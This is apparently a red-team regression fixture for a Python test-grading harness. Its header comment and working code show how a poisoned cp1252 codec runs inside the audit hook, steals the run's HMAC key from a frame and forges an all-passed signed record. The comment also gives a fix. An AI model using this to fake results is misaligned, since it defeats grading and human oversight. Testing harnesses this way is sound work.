# kata: 01
# expect: tampered
# Passed (red team, 2026-12-06: "Kata 01 passed: 8/8 checks"), task and main untouched (they raise); any kata: this
# one steals the run's HMAC key itself and writes a signed record of its own.
# How: the learner's module puts a finder of its own first in sys.meta_path (no audit event) that serves
# `encodings.cp1252` (the module the codec registry imports to find that codec) with a CodecInfo whose
# decode function is the learner's. Then it imports a standard-library module whose source declares that
# encoding (`turtledemo/clock.py`: "coding: cp1252"). When the import system runs the module's code, the
# `exec` event reaches the audit hook, which checks that a trusted file's code is the file's own
# (refusals.py exec_event -> genuine()): it compiles the SOURCE, inside the hook, and the tokenizer decodes
# it with the registry's cp1252 codec: the learner's function runs inside the hook (whether the import
# itself read the pyc, as here, or compiled the source first: the codec is cached either way), on the
# hook's own thread, where every event it raises is let through (`busy`) and the collector is off.
# `logging.currentframe()` (see exception_class_promotes_report.py; inside the hook even sys._getframe
# would pass) and `f_back` reach the hook's `check` frame, whose f_locals holds its free variable
# `state`, and `state["key"]` is the secret. The decoder signs an all-passed, complete record with it (the
# parent checks only the HMAC), writes it at plugin.record_path and leaves with os._exit(0). (Where cp1252
# was already looked up, `_codecs._forget_codec` and `encodings._cache` undo that; a first version that ran
# the finder itself inside the hook, at the import of encodings.cp1252, worked too.)
# What it defeats: "the run's secret lives only in that hook ... no frame that learner code can reach
# without a refused event holds it" (audit.py docstring): the hook itself runs the import system (and the
# codec registry) while its frames hold the key.
# Fix: nothing in the hook may import, look a codec up, or warn. In genuine(): refuse (return None) a
# source whose first two lines hold a PEP 263 cookie other than utf-8 / latin-1 / iso-8859-1 (those decode
# without the codec registry), or decode it outside the hook; compile with warnings off through a bound
# `_warnings` filter list swapped in for the duration (a trusted file that warns when compiled, e.g. an
# invalid escape sequence, would call the learner's warnings.showwarning the same way: IGNORED in guard);
# and keep the key in a closure the hook's frames do not reference directly (e.g. a cell read only by a
# tiny `sign()` function that runs no other code), so that a frame of `check` does not show it.
# Stopped: the hook compiles a trusted file only from text it decodes as UTF-8 itself; a file that declares
# another encoding is not verified, hence refused.
import codecs
import hashlib
import hmac
import json
import logging
import os
import sys

structures = sys.modules.get("_pytest.mark.structures")
config = structures.MARK_GEN._config if structures is not None else None
plugin = next((p for p in config.pluginmanager.get_plugins() if type(p).__name__ == "KataPlugin"), None) \
    if config is not None else None


def decode(data, errors="strict"):
    """The cp1252 codec, as the learner's module serves it: runs wherever a cp1252 source is compiled."""
    frame = logging.currentframe()  # no refusal: sys._getframe called by logging
    while frame is not None:
        state = frame.f_locals.get("state")
        if type(state) is dict and isinstance(state.get("key"), bytes):  # the audit hook's own frame
            forge(state["key"])
        frame = frame.f_back
    return codecs.latin_1_decode(data, errors)


class Finder:
    """Serves `encodings.cp1252` when the codec registry first imports it."""

    def find_spec(self, name, path=None, target=None):
        if name != "encodings.cp1252":
            return None
        return type(sys.modules["encodings"].__spec__)(name, self)

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        module.getregentry = lambda: codecs.CodecInfo(name="cp1252", encode=codecs.latin_1_encode,
                                                     decode=decode)


def forge(key):
    checks = [{"name": check.name, "passed": True, "code": None, "message": "", "status": "passed",
               "test": check.test} for check in plugin.checks.values()]
    payload = json.dumps({"version": 1, "complete": True, "checks": checks}).encode()
    with open(plugin.record_path, "wb") as f:
        f.write(payload + b"\n" + hmac.new(key, payload, hashlib.sha256).hexdigest().encode() + b"\n")
    os._exit(0)


if plugin is not None and "encodings.cp1252" not in sys.modules:
    sys.meta_path.insert(0, Finder())
    try:
        import turtledemo.clock  # noqa: F401  (a cp1252 source: the hook compiles it, decoding with our codec)
    except BaseException:
        pass


async def task(name, duration):
    raise NotImplementedError("write task()")


def main():
    raise NotImplementedError("write main()")
